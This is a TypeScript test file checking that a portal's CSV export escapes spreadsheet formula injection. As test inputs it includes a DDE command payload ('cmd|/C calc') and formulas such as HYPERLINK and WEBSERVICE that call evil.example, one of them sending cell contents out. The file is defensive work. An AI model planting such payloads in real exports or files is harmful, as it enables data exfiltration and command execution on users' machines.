import { describe, expect, it } from 'vitest';
import { csvCell, csvColumns, opportunityRecord, toCsv } from './openData';

describe('csvCell()', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","Click")', `"'=HYPERLINK(""http://evil.example"",""Click"")"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j, which a spreadsheet would read as a formula', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves ordinary text, numbers and empty values as they are', () => {
    expect(csvCell('Khu đô thị mới Giới Phiên')).toBe('Khu đô thị mới Giới Phiên');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(['=1+1', 'b'])).toBe("'=1+1 | b");
  });
});

describe('toCsv()', () => {
  const record = opportunityRecord({
    slug: 'tea-factory',
    url: 'https://portal.example/en/invest/opportunities/tea-factory/',
    language: 'en',
    facts: {
      sector: 'agro-processing',
      place: 'van-chan',
      form: 'direct',
      status: 'calling',
      lastVerified: new Date('2026-11-26'),
      draft: false,
      redirectFrom: [],
      illustrative: false,
      sources: [{ title: 'A source', url: 'https://example.org/a' }],
    },
    words: { title: '=WEBSERVICE("https://evil.example/"&A1)', description: '@cmd a description that starts with an at sign', incentives: ['-50% land rent'] },
    sectorName: 'Agro-processing',
    placeName: 'Văn Chấn',
  });

  it('writes no cell that starts a formula, while the JSON record keeps the text as written', () => {
    const [, row] = toCsv([record]).replace(/^\uFEFF/, '').split('\r\n');
    const cells = Object.fromEntries(csvColumns.map((c, i) => [c, row!.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)![i]!.replace(/,$/, '')]));
    expect(cells.title).toBe(`"'=WEBSERVICE(""https://evil.example/""&A1)"`);
    expect(cells.description).toBe("'@cmd a description that starts with an at sign");
    expect(cells.incentives).toBe("'-50% land rent");
    expect(record.title).toBe('=WEBSERVICE("https://evil.example/"&A1)');
  });
});
